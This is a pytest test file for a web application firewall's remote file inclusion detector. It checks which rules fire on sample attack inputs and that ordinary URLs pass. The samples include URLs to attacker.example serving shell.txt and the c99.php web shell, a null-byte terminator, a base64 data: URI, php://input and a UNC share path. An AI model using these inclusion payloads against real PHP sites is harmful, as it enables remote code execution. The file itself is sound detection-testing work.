"""Remote file inclusion detector: script URLs with terminators, web shells, data: URIs, UNC paths."""

from __future__ import annotations

import pytest
from family_cases import family_suite

from hullguard.firewall.detectors import rfi
from hullguard.firewall.detectors.base import ScanContext

CTX = ScanContext()


@pytest.mark.parametrize(
    ("payload", "rule_id"),
    [
        ("http://attacker.example/shell.txt?", "HG-RFI-001"),
        ("http://attacker.example/x.txt\x00", "HG-RFI-001"),
        ("https://attacker.example/c99.php", "HG-RFI-002"),
        ("data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "HG-RFI-003"),
        ("php://input", "HG-RFI-003"),
        ("\\\\attacker.example\\share\\x.php", "HG-RFI-004"),
    ],
)
def test_rules_fire_on_real_payloads(payload: str, rule_id: str) -> None:
    found = rfi.scan(payload, CTX)
    assert found is not None and found.rule_id == rule_id, found


def test_include_parameter_makes_a_script_url_suspicious() -> None:
    url = "https://attacker.example/code/module.php"
    assert rfi.scan(url, CTX) is None
    found = rfi.scan(url, ScanContext(location="queryStringParameters.page"))
    assert found is not None and found.rule_id == "HG-RFI-002"


def test_a_whole_attack_url_names_its_include_parameter() -> None:
    # The attacker's request pasted into one field: its own query says what is included.
    found = rfi.scan("http://shop.example/index.php?lang=en&page=http://attacker.example/code/module.txt", CTX)
    assert found is not None and found.rule_id == "HG-RFI-002"


@pytest.mark.parametrize(
    "value",
    [
        "https://www.example.com/",
        "https://cdn.example.com/pixel.gif?",
        "data:image/png;base64,iVBO",
        "https://shop.example/item.php?id=3&ref=https://news.example/story.php",  # ref is no include target
        "https://x.example/view.php?page=https://docs.example/guide.html",  # a page, not a script
    ],
)
def test_public_urls_pass(value: str) -> None:
    assert rfi.scan(value, CTX) is None


(
    test_corpus_and_handwritten_detection_rate,
    test_handwritten_benign_values_pass,
    test_benign_query_strings_false_positive_rate,
    test_prefilter_is_a_necessary_condition,
    test_adversarial_inputs_complete,
    test_rule_catalogue_is_complete,
) = family_suite(rfi, "rfi", ["http://", "http://a/b.txt?", "data:", "\\\\", "://"])
